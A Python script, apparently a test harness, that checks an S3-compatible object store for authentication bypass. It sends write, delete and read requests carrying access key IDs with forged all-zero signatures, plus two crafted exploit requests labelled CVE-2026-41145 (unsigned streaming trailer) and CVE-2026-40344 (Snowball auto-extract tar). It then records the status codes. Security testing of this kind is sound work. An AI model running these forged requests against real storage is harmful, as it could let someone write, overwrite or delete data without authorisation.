"""Try to write to the store and to read from it with access key ids, without their secrets.

Question: `host` and `port`, `ids` by user, and `write` and `read`: objects (`/bucket/key`) to try. Answer: the store's
status by user and method.
"""

import datetime as dt
import http.client
import io
import json
import sys
import tarfile
from collections.abc import Iterator
from urllib.parse import quote

FORGED = b"forged"
NO_SIGNATURE = "0" * 64
Request = tuple[str, str, bytes, dict[str, str]]


def main() -> None:
    """Try all methods, and print the statuses."""
    question = json.loads(sys.argv[1])
    answers = {
        f"{user}, {way}": _status(question, request)
        for user, key_id in question["ids"].items()
        for way, request in _ways(key_id, question["write"][user], question["read"][user])
    }
    print(json.dumps(answers))


def _ways(key_id: str, write: str, read: str) -> Iterator[tuple[str, Request]]:
    time = f"{dt.datetime.now(dt.UTC):%Y%m%dT%H%M%SZ}"
    scope = f"{key_id}/{time[:8]}/us-east-1/s3/aws4_request"
    query = (
        f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={quote(scope, safe='')}&X-Amz-Date={time}"
        f"&X-Amz-Expires=600&X-Amz-SignedHeaders=host&X-Amz-Signature={NO_SIGNATURE}"
    )
    header = {
        "X-Amz-Date": time,
        "X-Amz-Content-Sha256": "UNSIGNED-PAYLOAD",
        "Authorization": f"AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host, Signature={NO_SIGNATURE}",
    }
    trailer = {"X-Amz-Date": time, "X-Amz-Content-Sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER"}
    archive = {**trailer, "X-Amz-Meta-Snowball-Auto-Extract": "true"}
    length = {"X-Amz-Decoded-Content-Length": str(len(FORGED))}
    chunk = b"%x\r\n%b\r\n0\r\n\r\n" % (len(FORGED), FORGED)
    packed = _packed(write.split("/", 2)[2])
    yield "write by header", ("PUT", write, FORGED, header)
    yield "write by query", ("PUT", f"{write}?{query}", FORGED, {})
    yield "CVE-2026-41145", ("PUT", f"{write}?{query}", chunk, {**trailer, **length})
    yield "CVE-2026-40344", ("PUT", f"{write}.tar", packed, {**header, **archive})
    yield "CVE-2026-40344 by query", ("PUT", f"{write}.tar?{query}", packed, archive)
    yield "delete by header", ("DELETE", write, b"", header)
    yield "read by header", ("GET", read, b"", header)
    yield "read by query", ("GET", f"{read}?{query}", b"", {})


def _packed(key: str) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        entry = tarfile.TarInfo(key)
        entry.size = len(FORGED)
        tar.addfile(entry, io.BytesIO(FORGED))
    return packed.getvalue()


def _status(question: dict[str, str], request: Request) -> int:
    method, path, body, headers = request
    connection = http.client.HTTPConnection(question["host"], int(question["port"]), timeout=10)
    try:
        connection.request(method, path, body=body, headers=headers)
        return connection.getresponse().status
    finally:
        connection.close()


if __name__ == "__main__":
    main()
